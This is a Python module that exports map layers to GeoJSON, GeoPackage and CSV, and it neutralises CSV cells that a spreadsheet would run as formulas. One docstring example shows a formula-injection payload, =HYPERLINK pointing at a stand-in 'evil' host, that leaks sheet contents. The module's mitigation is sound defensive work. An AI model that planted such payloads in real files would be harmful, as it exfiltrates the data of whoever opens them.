"""Exports of map layers: GeoJSON (RFC 7946), GeoPackage, CSV.

Every writer takes the ``{name: GeoDataFrame}`` of :func:`placemap.maps.build_layers`,
writes a temporary file beside the target and renames it into place, so a reader never
sees half a file and a failed export leaves the old one. Text is written raw (exports are
data, not pages); every column of the layers is kept. The one exception is the CSV, which
spreadsheets open: a text cell that a spreadsheet would run as a formula is neutralised
(:func:`neutralise_formula`).
"""

from __future__ import annotations

import os
import re
from collections.abc import Iterable, Mapping
from pathlib import Path
from typing import TYPE_CHECKING

from placemap.atomic import atomic_path

if TYPE_CHECKING:
    import geopandas as gpd

__all__ = ["combined", "neutralise_formula", "write_csv", "write_geojson", "write_gpkg"]

#: What a spreadsheet reads as the start of a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: A plain number, which a leading sign does not make a formula ("-12.5", "+3e4").
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise_formula(value: object) -> object:
    """Return ``value`` with a ``'`` in front when a spreadsheet would run it as a formula.

    News text and users' place names are hostile input: ``=HYPERLINK("http://evil/?"&A1)``
    in a CSV cell leaks the sheet when it is opened. As OWASP recommends, a text cell that
    opens with ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a leading apostrophe,
    which spreadsheets show as text. Plain numbers ("-12.5") and anything not a string
    are returned unchanged.

    Parameters
    ----------
    value : object
        A cell.

    Returns
    -------
    object
        The cell, safe to open in a spreadsheet.

    Examples
    --------
    >>> neutralise_formula("=1+2"), neutralise_formula("-12.5"), neutralise_formula("Kyiv")
    ("'=1+2", '-12.5', 'Kyiv')
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def combined(layers: Mapping[str, gpd.GeoDataFrame], names: Iterable[str] | None = None) -> gpd.GeoDataFrame:
    """All features of ``layers`` (or of the ``names`` among them) in one frame, with ``layer``."""
    import geopandas as gpd
    import pandas as pd

    from .layers import empty_layer

    chosen = [layers[n] for n in (names if names is not None else layers) if n in layers and not layers[n].empty]
    if not chosen:
        return empty_layer("")
    return gpd.GeoDataFrame(pd.concat(chosen, ignore_index=True), geometry="geometry", crs="EPSG:4326")


def write_geojson(
    layers: Mapping[str, gpd.GeoDataFrame], path: str | os.PathLike[str], *, names: Iterable[str] | None = None
) -> Path:
    """Write the layers as one RFC 7946 GeoJSON FeatureCollection; the ``layer`` property
    says which layer a feature belongs to.

    GDAL writes it (``RFC7946=YES``): longitude first, no ``crs`` member, counter-clockwise
    exterior rings, at most 7 decimals, UTF-8 text unescaped.
    """
    frame = combined(layers, names)
    with atomic_path(path) as temporary:
        frame.to_file(temporary, driver="GeoJSON", engine="pyogrio", RFC7946="YES", WRITE_NAME="NO")
    return Path(path)


def write_gpkg(
    layers: Mapping[str, gpd.GeoDataFrame], path: str | os.PathLike[str], *, names: Iterable[str] | None = None
) -> Path:
    """Write a GeoPackage with one table per non-empty layer (named after the layer)."""
    chosen = [n for n in (names if names is not None else layers) if n in layers and not layers[n].empty]
    with atomic_path(path) as temporary:
        for name in chosen:
            frame = layers[name]
            kinds = set(frame.geom_type.dropna())
            geometry_type = kinds.pop() if len(kinds) == 1 else "Unknown"
            frame.to_file(
                temporary, driver="GPKG", layer=name, engine="pyogrio", geometry_type=geometry_type, append=False
            )
        if not chosen:
            combined(layers, ()).to_file(temporary, driver="GPKG", layer="events", engine="pyogrio")
    return Path(path)


def write_csv(
    layers: Mapping[str, gpd.GeoDataFrame], path: str | os.PathLike[str], *, names: Iterable[str] | None = None
) -> Path:
    """Write one CSV row per feature: every column, ``lat``/``lon`` of the event's point
    (a line's start, an area's representative point) and the geometry as WKT.

    Text cells a spreadsheet would run as formulas are neutralised (:func:`neutralise_formula`).
    """
    import pandas as pd
    import shapely

    frame = combined(layers, names)
    geometry = frame.geometry.to_numpy()
    anchor = shapely.point_on_surface(geometry)
    is_line = shapely.get_type_id(geometry) == shapely.GeometryType.LINESTRING
    anchor[is_line] = shapely.get_point(geometry[is_line], 0)
    table = frame.drop(columns="geometry")
    table["lat"] = table["lat"].where(table["lat"].notna(), shapely.get_y(anchor))
    table["lon"] = table["lon"].where(table["lon"].notna(), shapely.get_x(anchor))
    table["wkt"] = shapely.to_wkt(geometry, rounding_precision=7, trim=True)
    for column in table.columns:
        if not pd.api.types.is_numeric_dtype(table[column]):
            table[column] = table[column].map(neutralise_formula)
    with atomic_path(path) as temporary:
        # RFC 4180's CRLF: the csv module then quotes a cell holding a lone CR, which would
        # otherwise end the row early in every reader.
        table.to_csv(temporary, index=False, encoding="utf-8", lineterminator="\r\n")
    return Path(path)
